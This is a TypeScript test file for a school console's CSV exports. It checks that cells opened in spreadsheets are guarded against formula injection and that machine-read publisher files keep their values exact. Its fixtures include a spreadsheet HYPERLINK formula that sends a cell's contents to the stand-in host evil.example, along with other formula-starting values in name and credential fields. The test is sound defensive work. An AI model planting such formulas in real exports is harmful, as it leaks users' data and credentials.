import { userExports as contract } from '@console/contract';
import { eq } from 'drizzle-orm';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestContext, injectAs, requestOf, type TestContext } from '#test/context.js';
import { buildApplication, buildUser, giveApplication, giveOptions, type BuiltUser } from '#test/factories.js';
import { arrangeTwoSchools } from '#test/users-factories.js';
import { encryptSecret } from '#platform/auth/secrets.js';
import { applications, platforms, teachingAssignments } from '#platform/db/schema/index.js';

/**
 * Every export a person opens in a spreadsheet, read back with a formula in every free and
 * credential column; a publisher's file, which a machine reads, keeps the values exact.
 */
let t: TestContext;
let home: string;
let direction: string;

beforeAll(async () => {
  t = await createTestContext({ SESSION_CACHE_MS: '0', PUBLIC_URL: 'https://console.example.fr/' });
  const arranged = await arrangeTwoSchools(t);
  home = arranged.home;
  direction = arranged.cookies.direction;
  await buildApplication(t.db, { name: 'Manuels LLS', platformId: 'LLS2020', order: 1 });
  await t.db
    .update(platforms)
    .set({ urlSchemeLoginRequired: true, urlSchemePwdRequired: true })
    .where(eq(platforms.id, 'LLS2020'));
});
afterAll(() => t.close());

type ExportRoute =
  typeof contract.exportUsers | typeof contract.exportPlatform | typeof contract.exportTeaching | typeof contract.getMajExport;
const post = (route: ExportRoute, payload: object) =>
  injectAs(t.app, direction, { ...requestOf(route as typeof contract.exportUsers), payload });

describe('no live formula in a file a person opens (issue 31 §4)', () => {
  const LINK = '=HYPERLINK("http://evil.example/?"&C2,"x")';
  let eve: BuiltUser;
  let eva: BuiltUser;

  beforeAll(async () => {
    const key = t.env.encryptionKey;
    // Every free and credential column starts a formula.
    eve = await buildUser(t.db, key, {
      profile: 'Eleve',
      uai: home,
      lastname: LINK,
      firstname: '+Eve',
      login: 'eve.formule',
      password: '=1+1',
      level: '-6e',
      className: '@6A',
      email: '=eve@example.org',
      tabletNumber: '-42',
      comment: '+33 6',
      createdBy: '=creator',
      updatedBy: '@editor',
    });
    eva = await buildUser(t.db, key, {
      profile: 'Enseignant',
      uai: home,
      lastname: '-Eva',
      firstname: '@Eva',
      login: 'eva.formule',
      subject: '=Maths',
    });
    await giveOptions(t.db, eve, ['=Latin']);
    const [lls] = await t.db.select().from(applications).where(eq(applications.platformId, 'LLS2020'));
    await giveApplication(t.db, eve, lls!, { login: LINK, passwordEncrypted: encryptSecret(key, '@pw'), keys: '-code' });
    await t.db.insert(teachingAssignments).values({ userId: eva.id, className: '=6A', discipline: '+Maths' });
  });

  const cellsOf = (body: string) =>
    Papa.parse<string[]>(body.replace(/^\uFEFF/, ''), { delimiter: ';', skipEmptyLines: true }).data.flat();
  const spreadsheetExports: [string, ExportRoute, object][] = [
    ['Tous', contract.exportUsers, { type: 'tous' }],
    ['Brut', contract.exportUsers, { type: 'brut' }],
    ['Full', contract.exportUsers, { type: 'full' }],
    ['teaching', contract.exportTeaching, {}],
    ['URL', contract.getMajExport, {}],
  ];

  it.each(spreadsheetExports)(
    '%s: no cell read back starts a formula; each guarded one keeps its value after the apostrophe',
    async (_name, route, extra) => {
      const response = await post(route, { uai: home, userIds: [eve.id, eva.id], ...extra });
      expect(response.statusCode).toBe(200);
      const cells = cellsOf(response.body);
      expect(cells.filter((cell) => contract.FORMULA_START.test(cell))).toEqual([]);
      expect(
        cells
          .filter((cell) => cell.startsWith("'"))
          .map(contract.removeFormulaGuard)
          .every((cell) => contract.FORMULA_START.test(cell)),
      ).toBe(true);
    },
  );

  it('guards the credentials of Tous and Full: the user’s password, each application’s login, password and code', async () => {
    const full = cellsOf((await post(contract.exportUsers, { uai: home, userIds: [eve.id], type: 'full' })).body);
    expect(full).toEqual(expect.arrayContaining(["'=1+1", `'${LINK}`, "'@pw", "'-code", "'+Eve", "'-6e", "'@6A", "'=Latin"]));
  });

  it('keeps the values exact in a publisher’s file, which a machine reads', async () => {
    const response = await post(contract.exportPlatform, { uai: home, userIds: [eve.id], platformId: 'LLS2020' });
    const cells = Papa.parse<string[]>(response.body.replace(/^\uFEFF/, ''), {
      delimiter: ';',
      skipEmptyLines: true,
    }).data.flat();
    expect(cells).toEqual(expect.arrayContaining([LINK, '@pw', '+Eve']));
  });
});
